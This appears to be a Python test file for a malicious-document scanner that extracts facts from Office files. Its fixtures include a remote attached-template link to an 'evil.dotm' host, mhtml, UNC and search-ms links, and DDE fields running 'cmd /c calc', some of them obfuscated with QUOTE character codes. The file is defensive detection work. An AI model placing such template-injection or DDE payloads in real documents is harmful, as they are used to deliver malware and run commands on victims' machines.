"""content.ooxml: facts about references, fields and macro sheets."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from documents import facts, members, problems, zip_file
from lazaretto.content import ooxml
from lazaretto.errors import LimitExceeded
from lazaretto.limits import Limits
from lazaretto.model import Reason

TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SAMPLES = Path(__file__).parents[3] / "shared/corpus/files/decalage2-oletools/data"


def relation(kind: str, target: str, mode: str = "External", quote: str = '"') -> bytes:
    text = '<?xml version="1.0"?><Relationships>'
    text += f'<Relationship Id="a>b" Type="{TYPES}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return text.replace('"', quote).encode()


def document(part: str, data: bytes) -> bytes:
    return zip_file({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>", part: data})


RELS = "word/_rels/settings.xml.rels"
TEMPLATE = relation("attachedTemplate", "http://192.0.2.1/evil.dotm")


@pytest.mark.parametrize(
    ("rels", "fact"),
    [
        (TEMPLATE, "ooxml:attached-template http://192.0.2.1/evil.dotm"),
        (relation("oleObject", "mhtml:http://a/b!x-usc:http://a/b"), "ooxml:ole-object mhtml:http://a/b!x-usc:http://a/b"),
        (relation("frame", "\\\\host\\share", quote="'"), "ooxml:frame \\\\host\\share"),
        (relation("externalLinkPath", "h&#x74;tp://a?b&amp;c"), "ooxml:external-link-path http://a?b&c"),
        (relation("hyperlink", "search-ms:query"), "ooxml:hyperlink search-ms:query"),
        (
            TEMPLATE.replace(b"<Relationship ", b"<r:Relationship\n").replace(b"TargetMode", b"TARGETMODE"),
            "ooxml:attached-template http://192.0.2.1/evil.dotm",
        ),
        (TEMPLATE.decode().encode("utf-16"), "ooxml:attached-template http://192.0.2.1/evil.dotm"),
        (relation("hyperlink", "https://a.example/"), ""),
        (relation("hyperlink", "mailto:a@b"), ""),
        (relation("image", "media/image1.png", "Internal"), ""),
        (b"<Relationships/>", ""),
    ],
)
def test_references(rels: bytes, fact: str) -> None:
    expected = [fact] if fact else []
    data = document(RELS, rels)
    for variant in (data, b"junk in front" + data, document("Word\\_RELS\\x.RELS", rels)):
        assert facts("docx", variant) == expected
    if not rels.startswith(b"\xff"):
        assert facts("xml", rels) == expected


BEGIN, SEPARATE, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))


@pytest.mark.parametrize(
    ("xml", "fact"),
    [
        (
            BEGIN + '<w:instrText xml:space="preserve"> DDE</w:instrText><w:instrText>AUTO c:\\x.exe</w:instrText>' + SEPARATE + "x" + END,
            "ooxml:dde DDEAUTO c:\\x.exe",
        ),
        ('<w:fldSimple w:instr="DDE &quot;a&quot; b"/>', 'ooxml:dde DDE "a" b'),
        ("<w:instrText>dde cut", "ooxml:dde dde cut"),
        (
            (BEGIN + "<w:instrText>DDE </w:instrText>" + BEGIN + "<w:instrText> QUOTE 99 109 100 </w:instrText>" + END + END).replace(
                "w:", "x:"
            ),
            "ooxml:dde DDE cmd",
        ),
        ('<w:instrText>INCLUDEPICTURE "http://a"</w:instrText>', 'ooxml:field INCLUDEPICTURE "http://a"'),
        ('<ddeLink xmlns="x" ddeService="cmd" ddeTopic="/c calc">', "ooxml:dde cmd /c calc"),
        ("<w:instrText>PAGE</w:instrText>", ""),
    ],
)
def test_fields(xml: str, fact: str) -> None:
    expected = [fact] if fact else []
    assert facts("docx", document("word/header1.xml", xml.encode())) == expected
    assert facts("xml", b"<?xml?>" + xml.encode()) == expected


def test_macro_sheets() -> None:
    data = zip_file({"xl/macrosheets/sheet1.xml": b"", "xl/macrosheets/_rels/sheet1.xml.rels": b"<x/>"})
    assert facts("xlsm", data) == ["ooxml:xlm-macro-sheet xl/macrosheets/sheet1.xml"]


def test_binary_links() -> None:
    def text(value: str) -> bytes:
        return struct.pack("<I", len(value)) + value.encode("utf-16-le")

    body = struct.pack("<H", 1) + text("cmd") + text("/c calc")
    data = zip_file({"xl/externalLinks/externalLink1.bin": b"\x00\x00\xe8\x02" + bytes((len(body),)) + body})
    assert facts("xlsb", data) == ["ooxml:dde cmd /c calc"]


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", document(RELS, TEMPLATE)[:-30], document(RELS, TEMPLATE)[:60]])
def test_broken_archives_give_nothing(data: bytes) -> None:
    assert (members("docx", data), problems("docx", data)) == ([], [])


def test_large_directories_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ooxml, "DIRECTORY", 10)
    assert [(p.name, p.reason) for p in problems("docx", document(RELS, TEMPLATE))] == [("ooxml.directory", Reason.LIMIT)]


def test_parts_are_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ooxml, "PART", 100)
    assert facts("docx", document(RELS, b" " * 200 + TEMPLATE)) == []


def test_facts_are_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ooxml, "MAX_FACTS", 3)
    rels = b"".join(relation("frame", f"http://a/{number}") for number in range(9))
    assert len(facts("docx", document(RELS, rels))) == 3


def test_bombs_are_limited() -> None:
    with pytest.raises(LimitExceeded):
        members("docx", document(RELS, b" " * (1 << 20)), Limits(max_member_bytes=1 << 18))


WHOLE = document(RELS, TEMPLATE)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(WHOLE) - 1), st.binary(min_size=1, max_size=3)), max_size=8))
def test_never_raises_on_damaged_archives(changes: list[tuple[int, bytes]]) -> None:
    data = bytearray(WHOLE)
    for at, value in changes:
        data[at : at + len(value)] = value
    members("docx", bytes(data))


@given(
    st.lists(
        st.sampled_from(
            [
                "<Relationship ",
                'TargetMode="External"',
                "Target='",
                "<w:instrText>",
                "DDE",
                '<w:fldChar w:fldCharType="begin"/>',
                "&#x41;",
                "&#9999999;",
                '"',
                ">",
            ]
        ),
        max_size=20,
    )
)
def test_facts_never_raise(parts: list[str]) -> None:
    list(ooxml.facts("".join(parts)))


@given(st.binary(max_size=60))
def test_binary_facts_never_raise(data: bytes) -> None:
    list(ooxml.binary_facts(b"\xe8\x02\x80" + data))


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="needs the shared corpus")
@pytest.mark.parametrize(
    ("name", "type_id", "fact"),
    [
        ("msodde_dde-test.docx", "docx", 'ooxml:dde DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
        ("msodde_dde-test.xlsx", "xlsx", "ooxml:dde cmd /c calc.exe"),
        ("msodde_dde-test.xlsb", "xlsb", "ooxml:dde cmd /c calc.exe"),
        ("excel4-macros_excel4_sample_macro.xlsm", "xlsm", "ooxml:xlm-macro-sheet xl/macrosheets/sheet1.xml"),
        ("msodde_harmless-clean.docx", "docx", ""),
    ],
)
def test_samples(name: str, type_id: str, fact: str) -> None:
    found = facts(type_id, (SAMPLES / f"tests_test-data_{name}").read_bytes())
    assert fact in found if fact else found == []
